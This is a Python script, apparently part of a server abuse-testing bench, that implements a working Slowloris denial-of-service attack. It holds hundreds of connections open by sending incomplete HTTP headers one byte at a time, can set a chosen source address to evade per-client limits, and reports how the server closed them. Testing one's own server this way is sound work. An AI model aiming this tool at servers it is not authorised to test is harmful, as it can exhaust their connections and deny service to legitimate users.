#!/usr/bin/env python3
"""Slowloris for bench/abuse/run: N connections that each send an HTTP request one byte per
second and never finish its header.

    slowloris.py --host 127.0.0.1 --port P --connections N --seconds S --out FILE
                 [--source 127.0.0.3] [--ready FILE] [--interval 1.0]

Opens the N connections (from --source, so an address-based limit sees a third client), writes
--ready when all were attempted, then every --interval seconds sends the next byte of
"GET /healthz HTTP/1.1\\r\\nHost: …\\r\\nX-Slow-<i>: aaaa…" (the header value never ends) on
every connection still open. A connection counts as closed by the server when a read returns
end-of-file or a reset, or a send fails; whatever the server wrote before closing (say a 408) is
kept. Stops after --seconds or on SIGTERM/SIGINT, closes what is left and writes a JSON report
to --out. Standard library only; one thread, one selector.
"""
import argparse, errno, json, selectors, signal, socket, sys, time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--connections", type=int, default=300)
    ap.add_argument("--seconds", type=float, default=60)
    ap.add_argument("--interval", type=float, default=1.0)
    ap.add_argument("--source", default="")
    ap.add_argument("--out", required=True)
    ap.add_argument("--ready", default="")
    a = ap.parse_args()

    stop = {"flag": False}
    def on_signal(*_):
        stop["flag"] = True
    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)

    start = time.monotonic()
    sel = selectors.DefaultSelector()
    conns = []          # dicts: sock, opened, sent, closed, how, answer
    connect_errors = {}
    prefix = f"GET /healthz HTTP/1.1\r\nHost: {a.host}:{a.port}\r\n".encode()

    # Connect all at once (non-blocking), then give the server up to 5 s to complete them.
    pending = {}
    for i in range(a.connections):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.setblocking(False)
        try:
            if a.source:
                s.bind((a.source, 0))
            rc = s.connect_ex((a.host, a.port))
        except OSError as e:
            rc = e.errno
        if rc not in (0, errno.EINPROGRESS):
            name = errno.errorcode.get(rc, str(rc))
            connect_errors[name] = connect_errors.get(name, 0) + 1
            s.close()
            continue
        pending[s] = i
        sel.register(s, selectors.EVENT_WRITE, i)
    connect_deadline = time.monotonic() + 5
    while pending and time.monotonic() < connect_deadline and not stop["flag"]:
        for key, _ in sel.select(timeout=max(0.0, connect_deadline - time.monotonic())):
            s, i = key.fileobj, key.data
            sel.unregister(s)
            del pending[s]
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err:
                name = errno.errorcode.get(err, str(err))
                connect_errors[name] = connect_errors.get(name, 0) + 1
                s.close()
                continue
            c = {"i": i, "sock": s, "opened": time.monotonic() - start, "sent": 0, "closed": None, "how": None,
                 "answer": b"", "payload": prefix + f"X-Slow-{i}: ".encode()}
            conns.append(c)
            sel.register(s, selectors.EVENT_READ, c)
    for s in list(pending):
        sel.unregister(s)
        s.close()
        connect_errors["connect timeout (5 s)"] = connect_errors.get("connect timeout (5 s)", 0) + 1
    ready_at = time.monotonic() - start
    if a.ready:
        with open(a.ready, "w") as f:
            f.write(f"{len(conns)}\n")

    def close(c, how):
        if c["closed"] is not None:
            return
        c["closed"] = time.monotonic() - start
        c["how"] = how
        try:
            sel.unregister(c["sock"])
        except (KeyError, ValueError):
            pass
        c["sock"].close()

    deadline = start + a.seconds
    next_tick = time.monotonic()
    while not stop["flag"] and time.monotonic() < deadline:
        now = time.monotonic()
        if now >= next_tick:
            next_tick = now + a.interval
            for c in conns:
                if c["closed"] is not None:
                    continue
                p = c["payload"]
                byte = p[c["sent"]:c["sent"] + 1] if c["sent"] < len(p) else b"a"
                try:
                    c["sock"].send(byte)
                    c["sent"] += 1
                except BlockingIOError:
                    pass
                except OSError as e:
                    close(c, "send " + errno.errorcode.get(e.errno, str(e.errno)))
        if not sel.get_map():
            time.sleep(max(0.0, min(next_tick, deadline) - time.monotonic()))
            continue
        for key, _ in sel.select(timeout=max(0.0, min(next_tick, deadline) - time.monotonic())):
            c = key.data
            try:
                data = c["sock"].recv(65536)
            except BlockingIOError:
                continue
            except OSError as e:
                close(c, "reset" if e.errno == errno.ECONNRESET else "recv " + errno.errorcode.get(e.errno, str(e.errno)))
                continue
            if not data:
                close(c, "eof")
            else:
                c["answer"] += data[:4096]

    ended = time.monotonic() - start
    still_open = 0
    for c in conns:
        if c["closed"] is None:
            still_open += 1
            close(c, "by us at the end")
            c["closed_by_us"] = True

    closed = [c for c in conns if not c.get("closed_by_us")]
    lifetimes = sorted(c["closed"] - c["opened"] for c in closed)
    answers = {}
    for c in closed:
        first = c["answer"].split(b"\r\n", 1)[0].decode("latin-1") if c["answer"] else ""
        status = first.split(" ")[1] if first.startswith("HTTP/") and len(first.split(" ")) > 1 else ("none" if not first else "other")
        answers[status] = answers.get(status, 0) + 1
    hows = {}
    for c in closed:
        hows[c["how"]] = hows.get(c["how"], 0) + 1
    answered_open = sum(1 for c in conns if c.get("closed_by_us") and c["answer"])

    def pct(xs, p):
        if not xs:
            return None
        k = (len(xs) - 1) * p / 100.0
        f = int(k); g = min(f + 1, len(xs) - 1)
        return xs[f] + (xs[g] - xs[f]) * (k - f)

    report = {
        "connections": a.connections, "opened": len(conns), "connect_errors": connect_errors,
        "all_attempted_after_s": ready_at, "ran_s": ended, "interval_s": a.interval,
        "closed_by_server": len(closed), "still_open_at_end": still_open,
        "answered_but_open": answered_open,
        "closed_after_s": {"min": pct(lifetimes, 0), "p50": pct(lifetimes, 50), "max": pct(lifetimes, 100)},
        "close_kind": hows, "server_answer_before_close": answers,
        "bytes_sent": {"min": min((c["sent"] for c in conns), default=0), "max": max((c["sent"] for c in conns), default=0)},
        "closed_over_time": [round(c["closed"], 1) for c in sorted(closed, key=lambda c: c["closed"])],
    }
    with open(a.out, "w") as f:
        json.dump(report, f, indent=1)


if __name__ == "__main__":
    sys.exit(main())
